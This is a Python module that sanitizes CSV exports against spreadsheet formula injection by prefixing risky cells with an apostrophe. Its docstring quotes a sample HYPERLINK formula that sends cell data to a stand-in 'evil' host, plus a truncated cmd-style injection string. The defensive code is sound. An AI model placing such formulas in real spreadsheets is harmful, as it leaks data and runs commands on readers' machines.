"""CSV for spreadsheets: every export writes its rows through :func:`writer`.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, WPS and LibreOffice as a formula: a name imported as
``=HYPERLINK("http://evil/?"&A1)`` would run on the auditor's desk. Such cells
get a leading ``'`` (OWASP's advice), which spreadsheets show as text and do not
display. Numbers are written as numbers, and so is a string that is a plain
number (``"-1.5"``: a spreadsheet reads it as the number it is, nothing runs);
``"-2+3+cmd|..."`` is neutralised.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

#: First characters that make a spreadsheet evaluate a cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_STARTS)

#: A plain decimal number, harmless in any spreadsheet.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")

#: Written first, so Excel on Windows opens UTF-8 (Chinese) correctly.
BOM = "\ufeff"


class _TextSink(Protocol):
    def write(self, s: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet (strings only; other types unchanged)."""
    # value[:1] in a set: exports call this for every cell (a million for 100,000 rows).
    if isinstance(value, str) and value[:1] in _FORMULA_FIRST and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows pass through :func:`safe_cell`."""

    def __init__(self, sink: _TextSink, **fmtparams: Any) -> None:
        self._writer = csv.writer(sink, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(sink: _TextSink, **fmtparams: Any) -> SafeWriter:
    """The one way to write an export's CSV rows (see the module docstring)."""
    return SafeWriter(sink, **fmtparams)
